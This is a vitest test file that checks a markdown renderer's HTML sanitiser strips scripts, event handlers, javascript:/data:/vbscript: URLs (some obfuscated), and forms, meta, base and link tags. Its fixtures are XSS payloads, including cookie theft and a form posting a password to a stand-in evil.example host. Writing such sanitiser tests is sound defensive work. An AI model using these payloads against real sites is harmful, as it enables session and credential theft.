import { describe, expect, test } from 'vitest';

import { renderMarkdown } from '@/lib/content/render/render-markdown';

import { elements, html } from './support/posts';

const render = (markdown: string) => html(renderMarkdown(markdown));

describe('the sanitiser removes what could run or restyle', () => {
  test('<script> is gone with its content', () => {
    const out = render('앞 문단\n\n<script>window.stolen = document.cookie</script>\n\n뒤 문단');
    expect(out).not.toMatch(/script/i);
    expect(out).not.toContain('document.cookie');
    expect(out).toContain('<p>앞 문단</p>');
    expect(out).toContain('<p>뒤 문단</p>');
  });

  test('an inline <script> inside a paragraph is gone with its content', () => {
    const out = render('문장 <script>alert(1)</script> 계속');
    expect(out).not.toMatch(/script|alert/);
    expect(out).toContain('문장');
    expect(out).toContain('계속');
  });

  test('<style> is gone with its content', () => {
    const out = render('<style>body { display: none }</style>\n\n본문');
    expect(out).not.toMatch(/style|display/);
    expect(out).toContain('<p>본문</p>');
  });

  test('on* handlers are dropped but the <img src> is kept (Tistory onerror fallback)', () => {
    const tree = renderMarkdown(
      '<img src="https://blog.kakaocdn.net/dn/abc/img.jpg" onerror="this.onerror=null; this.src=\'https://t1.daumcdn.net/x.jpg\'" onload="steal()" alt="사진">',
    );
    const [image] = elements(tree, 'img');
    expect(image?.properties.src).toBe('https://blog.kakaocdn.net/dn/abc/img.jpg');
    expect(image?.properties.alt).toBe('사진');
    expect(html(tree)).not.toMatch(/onerror|onload|steal|daumcdn/);
  });

  test('on* handlers on any element are dropped', () => {
    const out = render(
      '<p onclick="steal()" onmouseover="steal()">문단</p>\n\n<div onfocus="x()">상자</div>',
    );
    expect(out).not.toMatch(/on(click|mouseover|focus)|steal|x\(\)/);
    expect(out).toContain('문단');
    expect(out).toContain('상자');
  });

  test('javascript: hrefs are removed (the link text stays)', () => {
    const tree = renderMarkdown('<a href="javascript:alert(document.domain)">눌러 보세요</a>');
    expect(html(tree)).not.toMatch(/javascript|alert/i);
    expect(elements(tree, 'a').every((link) => link.properties.href === undefined)).toBe(true);
    expect(html(tree)).toContain('눌러 보세요');
  });

  test('javascript: hrefs hidden by case, entities or whitespace are removed too', () => {
    for (const href of [
      'JaVaScRiPt:alert(1)',
      'jav&#x09;ascript:alert(1)',
      ' javascript:alert(1)',
      'java\nscript:alert(1)',
    ]) {
      const out = render(`<a href="${href}">링크</a>`);
      expect(out, href).not.toMatch(/javascript|alert/i);
    }
  });

  test('markdown links with javascript: lose their href', () => {
    expect(render('[링크](javascript:alert(1))')).not.toMatch(/javascript|alert/i);
  });

  test('data: and vbscript: URLs are removed from links and images', () => {
    const out = render(
      '<a href="data:text/html,<script>alert(1)</script>">a</a> <img src="data:image/svg+xml,<svg onload=alert(1)>"> <a href="vbscript:msgbox">b</a>',
    );
    expect(out).not.toMatch(/data:|vbscript|alert|onload/i);
  });

  test('http(s), mailto, tel and relative links are kept', () => {
    const out = render(
      '[a](https://example.com/x) [b](http://example.com) [c](mailto:desk@newsdao.kr) [d](tel:0212345678) [e](/articles/x)',
    );
    expect(out).toContain('href="https://example.com/x"');
    expect(out).toContain('href="http://example.com"');
    expect(out).toContain('href="mailto:desk@newsdao.kr"');
    expect(out).toContain('href="tel:0212345678"');
    expect(out).toContain('href="/articles/x"');
  });

  test('data-ke-* attributes are removed', () => {
    const out = render(
      '<h2 data-ke-size="size26">제목</h2>\n<p data-ke-size="size16" data-ke-style="style1">본문</p>',
    );
    expect(out).not.toContain('data-');
    expect(out).toContain('<h2>제목</h2>');
    expect(out).toContain('<p>본문</p>');
  });

  test('style and class attributes are removed', () => {
    const out = render(
      '<p style="color: red; position: fixed" class="tt_article">본문</p>\n\n<table><tr><td style="text-align: center">칸</td></tr></table>',
    );
    expect(out).not.toMatch(/style=|class=|position|tt_article/);
    expect(out).toContain('본문');
  });

  test('<form>, <input> and <button> are gone; their text may stay', () => {
    const tree = renderMarkdown(
      '<form action="https://evil.example/steal" method="post"><input name="password" type="password" value="x"><button type="submit">보내기</button></form>',
    );
    for (const tag of ['form', 'input', 'button']) expect(elements(tree, tag)).toEqual([]);
    const out = html(tree);
    expect(out).not.toMatch(/action|password|evil/);
    expect(out).toContain('보내기');
  });

  test('<textarea> and <select> go with their content', () => {
    const out = render('<textarea>숨은 글</textarea><select><option>옵션</option></select>남는 글');
    expect(out).not.toMatch(/textarea|select|option|숨은 글|옵션/);
    expect(out).toContain('남는 글');
  });

  test('<meta http-equiv=refresh> is gone', () => {
    const out = render('<meta http-equiv="refresh" content="0; url=https://evil.example">\n\n본문');
    expect(out).not.toMatch(/meta|refresh|evil/);
    expect(out).toContain('본문');
  });

  test('<base> is gone', () => {
    const out = render('<base href="https://evil.example/">\n\n[링크](/articles/x)');
    expect(out).not.toMatch(/base|evil/);
    expect(out).toContain('href="/articles/x"');
  });

  test('<link>, <object>, <embed> and <svg> are gone', () => {
    const out = render(
      '<link rel="stylesheet" href="https://evil.example/x.css"><object data="x.swf"></object><embed src="x.swf"><svg><script>alert(1)</script></svg>본문',
    );
    expect(out).not.toMatch(/link|object|embed|svg|swf|evil|alert/);
    expect(out).toContain('본문');
  });

  test('ids and names are prefixed so a post cannot clobber page globals', () => {
    const tree = renderMarkdown('<p id="main" name="x">문단</p>');
    expect(html(tree)).not.toContain('id="main"');
  });

  test('code blocks keep their language class only', () => {
    const tree = renderMarkdown('```ts\nconst a = 1;\n```');
    const [code] = elements(tree, 'code');
    expect(code?.properties.className).toEqual(['language-ts']);
  });

  test('rendering is pure: the same markdown gives the same tree', () => {
    const markdown = '<p onclick="x()">문단</p>\n\n| a | b |\n|---|---|\n| 1 | 2 |';
    expect(html(renderMarkdown(markdown))).toBe(html(renderMarkdown(markdown)));
  });
});
